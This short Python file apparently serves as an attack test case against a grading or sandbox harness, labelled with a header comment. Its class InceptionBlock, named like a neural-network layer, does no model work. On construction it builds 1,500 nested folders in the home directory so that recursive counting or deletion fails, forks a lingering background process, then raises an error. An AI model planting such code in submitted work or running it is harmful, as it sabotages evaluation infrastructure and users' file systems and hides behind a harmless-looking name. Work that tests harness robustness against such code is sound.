# attack: >-
#   Folders 1,500 deep in the scratch folder, on which whoever counts or removes them recursively fails, and a
#   process that stays.
# mark: 0
# seconds: 20
# naive: none

import os, time
class InceptionBlock:
    def __init__(self, *a):
        os.chdir(os.environ["HOME"])
        for _ in range(1500):
            os.mkdir("a"); os.chdir("a")
        if os.fork() == 0:
            time.sleep(15); os._exit(0)
        time.sleep(1.5)
        raise ValueError("done")
